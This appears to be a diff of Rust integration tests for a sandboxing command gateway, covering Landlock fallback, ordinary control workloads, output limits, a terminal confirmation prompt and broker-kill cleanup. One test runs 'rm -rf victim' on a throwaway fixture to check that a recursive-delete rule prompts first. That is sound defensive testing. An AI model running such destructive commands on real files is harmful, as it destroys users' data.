+            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+        };
+        struct sock_fprog p = { sizeof f / sizeof f[0], f };
+        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &p)) return 99;
+        execv(argv[1], argv + 1);
+        return 98;
 }
 "#,
-    )
-    .expect("write");
-    let wrapper = env.root.join("nolandlock");
-    gcc(&src, &wrapper, &[]);
-    let o = Command::new(&wrapper)
-        .args([BIN, "exec", "--policy", "strict", "--", "true"])
-        .current_dir(&env.ws)
-        .env("HOME", &env.home)
-        .env("GATEWAY_STATE_DIR", &env.state)
-        .output()
-        .expect("run");
-    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
-    let err = String::from_utf8_lossy(&o.stderr);
-    assert!(
-        err.contains("landlock") && err.contains("best_effort"),
-        "{err}"
-    );
-    assert_eq!(err.trim().lines().count(), 1, "{err}");
-    // best_effort runs and says landlock was not applied.
-    let p = env.policy_file("extends = \"strict\"\n[sandbox]\nbest_effort = true\n");
-    let o = Command::new(&wrapper)
-        .args([BIN, "--json", "exec", "--policy", &p, "--", "true"])
-        .current_dir(&env.ws)
-        .env("HOME", &env.home)
-        .env("GATEWAY_STATE_DIR", &env.state)
-        .output()
-        .expect("run");
-    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
-    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
-    assert_eq!(v["enforcement"]["landlock"]["fs"], false);
-    assert!(
-        v["enforcement"]["not_applied"]
-            .to_string()
-            .contains("landlock")
-    );
+        )
+        .expect("write");
+        let wrapper = env.root.join("nolandlock");
+        gcc(&src, &wrapper, &[]);
+        let o = env
+            .raw(&wrapper)
+            .args([BIN, "exec", "--policy", "strict", "--", "true"])
+            .output()
+            .expect("run");
+        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert!(
+            err.contains("landlock") && err.contains("best_effort"),
+            "{err}"
+        );
+        assert_eq!(err.trim().lines().count(), 1, "{err}");
+        // best_effort runs and says landlock was not applied.
+        let p = env.policy_file("extends = \"strict\"\n[sandbox]\nbest_effort = true\n");
+        let o = env
+            .raw(&wrapper)
+            .args([BIN, "--json", "exec", "--policy", &p, "--", "true"])
+            .output()
+            .expect("run");
+        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
+        assert_eq!(v["enforcement"]["landlock"]["fs"], false);
+        assert!(
+            v["enforcement"]["not_applied"]
+                .to_string()
+                .contains("landlock")
+        );
+    }
 }
 
 // ---------------------------------------------------------------- ordinary work (controls)
 
-#[test]
-fn control_compile_and_run_c() {
-    if skip() {
-        return;
+sandbox_test! {
+    fn control_compile_and_run_c() {
+        let env = Env::new("cc");
+        env.write(
+            "hello.c",
+            "#include <stdio.h>\nint main(void){ puts(\"hello from c\"); return 3; }\n",
+        );
+        let o = env.sh("strict", "gcc -o hello hello.c && ./hello");
+        assert_eq!(o.status.code(), Some(3), "{}", text(&o));
+        assert_eq!(stdout(&o).trim(), "hello from c");
     }
-    let env = Env::new("cc");
-    env.write(
-        "hello.c",
-        "#include <stdio.h>\nint main(void){ puts(\"hello from c\"); return 3; }\n",
-    );
-    let o = env.sh("strict", "gcc -o hello hello.c && ./hello");
-    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
-    assert_eq!(stdout(&o).trim(), "hello from c");
 }
 
-#[test]
-fn control_python_git_pipes_stdin() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("controls");
-    let o = env.exec(
-        "strict",
-        &[
-            "python3",
-            "-c",
-            "import json,sys; print(json.dumps({'a': 2**10}))",
-        ],
-    );
-    assert_eq!(stdout(&o).trim(), "{\"a\": 1024}", "{}", text(&o));
-    let o = env.sh(
-        "strict",
-        "git init -q . && echo x > f && git add f && git -c user.name=t -c user.email=t@e commit -qm init && git log --oneline | wc -l",
-    );
-    assert_eq!(stdout(&o).trim(), "1", "{}", text(&o));
-    let o = env.sh("standard", "seq 1 100 | sort -rn | head -1");
-    assert_eq!(stdout(&o).trim(), "100", "{}", text(&o));
-    let mut child = env
-        .cmd()
-        .args(["exec", "--policy", "strict", "--", "tr", "a-z", "A-Z"])
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .spawn()
-        .expect("spawn");
-    child
-        .stdin
-        .take()
-        .expect("stdin")
-        .write_all(b"through stdin\n")
-        .expect("write");
-    let o = child.wait_with_output().expect("wait");
-    assert_eq!(stdout(&o), "THROUGH STDIN\n");
-}
-
-#[test]
-fn control_exit_codes_and_signals() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("codes");
-    assert_eq!(env.sh("strict", "exit 7").status.code(), Some(7));
-    assert_eq!(
-        env.sh("strict", "kill -TERM $$").status.code(),
-        Some(128 + 15)
-    );
-    let o = env
-        .cmd()
-        .args([
-            "--json",
-            "exec",
-            "--policy",
+sandbox_test! {
+    fn control_python_git_pipes_stdin() {
+        let env = Env::new("controls");
+        let o = env.exec(
             "strict",
-            "--",
-            "sh",
-            "-c",
-            "echo out; echo err >&2; exit 4",
-        ])
-        .output()
-        .expect("run");
-    assert_eq!(o.status.code(), Some(4));
-    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
-    assert_eq!(v["stdout"], "out\n");
-    assert_eq!(v["stderr"], "err\n");
-    assert_eq!(v["exit_code"], 4);
-    assert_eq!(v["decision"], "allow");
-    assert_eq!(v["enforcement"]["landlock"]["fs"], true);
-    assert_eq!(v["enforcement"]["seccomp"], true);
-    assert_eq!(v["enforcement"]["capabilities_dropped"], true);
-    assert_eq!(v["enforcement"]["pid_namespace"], true);
-    assert_eq!(
-        v["enforcement"]["not_applied"].as_array().map(|a| a.len()),
-        Some(0)
-    );
-}
-
-#[test]
-fn output_limit_stops_the_run() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("outlimit");
-    let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\noutput = \"64KiB\"\n");
-    let o = env.exec(&p, &["yes"]);
-    assert_eq!(
-        o.status.code(),
-        Some(137),
-        "{}",
-        String::from_utf8_lossy(&o.stderr)
-    );
-    assert_eq!(o.stdout.len(), 64 * 1024);
-}
-
-#[test]
-fn ask_prompts_on_a_terminal() {
-    if skip() {
-        return;
-    }
-    // Under a pty (python's pty module), `ask` prompts on the terminal: "y" runs the command,
-    // anything else does not (exit 121).
-    for (answer, code, kept) in [("y", 0, false), ("n", 121, true)] {
-        let env = Env::new("ask");
-        env.write("victim/a.txt", "x");
-        let script = format!(
-            "import os,pty,sys\n\
-             pid, fd = pty.fork()\n\
-             if pid == 0:\n\
-             \x20   os.execv(sys.argv[1], sys.argv[1:])\n\
-             out = b''\n\
-             while b'[y/N]' not in out:\n\
-             \x20   out += os.read(fd, 1024)\n\
-             os.write(fd, b'{answer}\\n')\n\
-             while True:\n\
-             \x20   try:\n\
-             \x20       chunk = os.read(fd, 1024)\n\
-             \x20   except OSError:\n\
-             \x20       break\n\
-             \x20   if not chunk:\n\
-             \x20       break\n\
-             \x20   out += chunk\n\
-             sys.stdout.write(out.decode(errors='replace'))\n\
-             sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))\n"
+            &[
+                "python3",
+                "-c",
+                "import json,sys; print(json.dumps({'a': 2**10}))",
+            ],
         );
-        let o = Command::new("python3")
-            .args([
-                "-c", &script, BIN, "exec", "--policy", "standard", "--", "rm", "-rf", "victim",
-            ])
-            .current_dir(&env.ws)
-            .env("HOME", &env.home)
-            .env("GATEWAY_STATE_DIR", &env.state)
-            .output()
-            .expect("run under pty");
-        assert_eq!(o.status.code(), Some(code), "answer {answer}: {}", text(&o));
-        assert!(
-            stdout(&o).contains("ask-rm-recursive"),
-            "the prompt names the rule: {}",
-            text(&o)
+        assert_eq!(stdout(&o).trim(), "{\"a\": 1024}", "{}", text(&o));
+        let o = env.sh(
+            "strict",
+            "git init -q . && echo x > f && git add f && git -c user.name=t -c user.email=t@e commit -qm init && git log --oneline | wc -l",
         );
-        assert_eq!(
-            env.ws.join("victim/a.txt").exists(),
-            kept,
-            "answer {answer}"
-        );
-    }
-}
-
-#[test]
-fn killing_the_broker_kills_the_run() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("brokerkill");
-    let marker = format!("3{}.75", std::process::id());
-    for policy in ["strict", "standard"] {
+        assert_eq!(stdout(&o).trim(), "1", "{}", text(&o));
+        let o = env.sh("standard", "seq 1 100 | sort -rn | head -1");
+        assert_eq!(stdout(&o).trim(), "100", "{}", text(&o));
         let mut child = env
             .cmd()
-            .args(["exec", "--policy", policy, "--", "sh", "-c"])
-            .arg(format!("setsid sleep {marker} & sleep {marker}"))
+            .args(["exec", "--policy", "strict", "--", "tr", "a-z", "A-Z"])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
             .spawn()
             .expect("spawn");
-        // Wait until the sandboxed sleeps run, then SIGKILL the gateway itself.
-        let t = std::time::Instant::now();
-        while sleeps(&marker).len() < 2 && t.elapsed() < std::time::Duration::from_secs(10) {
-            std::thread::sleep(std::time::Duration::from_millis(20));
-        }
-        assert_eq!(sleeps(&marker).len(), 2, "{policy}: the run did not start");
-        child.kill().expect("kill gateway");
-        let _ = child.wait();
-        let t = std::time::Instant::now();
-        while !sleeps(&marker).is_empty() && t.elapsed() < std::time::Duration::from_secs(5) {
-            std::thread::sleep(std::time::Duration::from_millis(20));
-        }
-        assert!(
-            sleeps(&marker).is_empty(),
-            "{policy} survivors: {:?}",
-            sleeps(&marker)
+        child
+            .stdin
+            .take()
+            .expect("stdin")
+            .write_all(b"through stdin\n")
+            .expect("write");
+        let o = child.wait_with_output().expect("wait");
+        assert_eq!(stdout(&o), "THROUGH STDIN\n");
+    }
+}
+
+sandbox_test! {
+    fn control_exit_codes_and_signals() {
+        let env = Env::new("codes");
+        assert_eq!(env.sh("strict", "exit 7").status.code(), Some(7));
+        assert_eq!(
+            env.sh("strict", "kill -TERM $$").status.code(),
+            Some(128 + 15)
         );
+        let o = env
+            .cmd()
+            .args([
+                "--json",
+                "exec",
+                "--policy",
+                "strict",
+                "--",
+                "sh",
+                "-c",
+                "echo out; echo err >&2; exit 4",
+            ])
+            .output()
+            .expect("run");
+        assert_eq!(o.status.code(), Some(4));
+        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
+        assert_eq!(v["stdout"], "out\n");
+        assert_eq!(v["stderr"], "err\n");
+        assert_eq!(v["exit_code"], 4);
+        assert_eq!(v["decision"], "allow");
+        assert_eq!(v["enforcement"]["landlock"]["fs"], true);
+        assert_eq!(v["enforcement"]["seccomp"], true);
+        assert_eq!(v["enforcement"]["capabilities_dropped"], true);
+        assert_eq!(v["enforcement"]["pid_namespace"], true);
+        assert_eq!(
+            v["enforcement"]["not_applied"].as_array().map(|a| a.len()),
+            Some(0)
+        );
+    }
+}
+
+sandbox_test! {
+    fn output_limit_stops_the_run() {
+        let env = Env::new("outlimit");
+        let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\noutput = \"64KiB\"\n");
+        let o = env.exec(&p, &["yes"]);
+        assert_eq!(
+            o.status.code(),
+            Some(137),
+            "{}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+        assert_eq!(o.stdout.len(), 64 * 1024);
+    }
+}
+
+sandbox_test! {
+    fn ask_prompts_on_a_terminal() {
+        // Under a pty (python's pty module), `ask` prompts on the terminal: "y" runs the command,
+        // anything else does not (exit 121).
+        for (answer, code, kept) in [("y", 0, false), ("n", 121, true)] {
+            let env = Env::new("ask");
+            env.write("victim/a.txt", "x");
+            let script = format!(
+                "import os,pty,sys\n\
+                 pid, fd = pty.fork()\n\
+                 if pid == 0:\n\
+                 \x20   os.execv(sys.argv[1], sys.argv[1:])\n\
+                 out = b''\n\
+                 while b'[y/N]' not in out:\n\
+                 \x20   out += os.read(fd, 1024)\n\
+                 os.write(fd, b'{answer}\\n')\n\
+                 while True:\n\
+                 \x20   try:\n\
+                 \x20       chunk = os.read(fd, 1024)\n\
+                 \x20   except OSError:\n\
+                 \x20       break\n\
+                 \x20   if not chunk:\n\
+                 \x20       break\n\
+                 \x20   out += chunk\n\
+                 sys.stdout.write(out.decode(errors='replace'))\n\
+                 sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))\n"
+            );
+            let o = env
+                .raw("python3")
+                .args([
+                    "-c", &script, BIN, "exec", "--policy", "standard", "--", "rm", "-rf", "victim",
+                ])
+                .output()
+                .expect("run under pty");
+            assert_eq!(o.status.code(), Some(code), "answer {answer}: {}", text(&o));
+            assert!(
+                stdout(&o).contains("ask-rm-recursive"),
+                "the prompt names the rule: {}",
+                text(&o)
+            );
+            assert_eq!(
+                env.ws.join("victim/a.txt").exists(),
+                kept,
+                "answer {answer}"
+            );
+        }
+    }
+}
+
+sandbox_test! {
+    fn killing_the_broker_kills_the_run() {
+        let env = Env::new("brokerkill");
+        let marker = format!("3{}.75", std::process::id());
+        for policy in ["strict", "standard"] {
+            let mut child = env
+                .cmd()
+                .args(["exec", "--policy", policy, "--", "sh", "-c"])
+                .arg(format!("setsid sleep {marker} & sleep {marker}"))
+                .spawn()
+                .expect("spawn");
+            // Wait until the sandboxed sleeps run, then SIGKILL the gateway itself.
+            let t = std::time::Instant::now();
+            while sleeps(&marker).len() < 2 && t.elapsed() < std::time::Duration::from_secs(10) {
+                std::thread::sleep(std::time::Duration::from_millis(20));
+            }
+            assert_eq!(sleeps(&marker).len(), 2, "{policy}: the run did not start");
+            child.kill().expect("kill gateway");
+            let _ = child.wait();
+            let t = std::time::Instant::now();
+            while !sleeps(&marker).is_empty() && t.elapsed() < std::time::Duration::from_secs(5) {
+                std::thread::sleep(std::time::Duration::from_millis(20));
+            }
+            assert!(
+                sleeps(&marker).is_empty(),
+                "{policy} survivors: {:?}",
+                sleeps(&marker)
+            );
+        }
     }
 }
 
